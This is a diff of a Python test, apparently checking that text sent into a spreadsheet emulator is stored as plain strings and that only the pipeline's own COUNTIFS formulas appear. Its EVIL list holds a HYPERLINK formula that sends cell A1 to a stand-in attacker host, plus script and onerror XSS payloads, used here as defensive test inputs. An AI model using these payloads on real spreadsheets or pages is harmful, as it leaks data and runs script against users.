@@ -1,5 +1,7 @@
 """What people and programs write is text, from the webhook to the eye: no formula, no page."""
 
+import json
+import re
 from pathlib import Path
 from typing import Any
 
@@ -10,6 +12,11 @@ from emulator import Emulator
 from tests.made_up import comment, document, milestone, task, uuid
 from tests.world import World, wait_for
 
+FORMULA = re.compile(r'"formulaValue": "((?:[^"\\\\]|\\\\.)*)"')
+COUNTED = re.compile(
+    r"=COUNTIFS\(Brightsheet_Milestone,\$A\d+(,Brightsheet_Status,[A-Z]+\$1)?"
+    r',Brightsheet_Site,\\"<>Copy of \*\\"\)'
+)
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
     '<script>alert(1)</script><img src=x onerror="alert(1)">',
@@ -48,7 +55,9 @@ def test_a_text_stands_in_the_sheet_as_it_was_sent(tmp_path: Path, sqlite_url: s
         where, query = {"spreadsheetId": world.spreadsheet}, MultiDict({"includeGridData": "true"})
         stored = google.sheets.handle("sheets.spreadsheets.get", where, query, None, "onlooker")
         assert "stringValue" in str(stored)
-        assert "formulaValue" not in str(stored)
+        # The pipeline counts by formulas of ours, which name cells and no text.
+        formulas = FORMULA.findall(json.dumps(stored))
+        assert [one for one in formulas if not COUNTED.fullmatch(one)] == []
         page = requests.get(f"{google.url}/spreadsheets/d/{world.spreadsheet}", timeout=10)
         assert page.ok
         assert "<script>alert" not in page.text
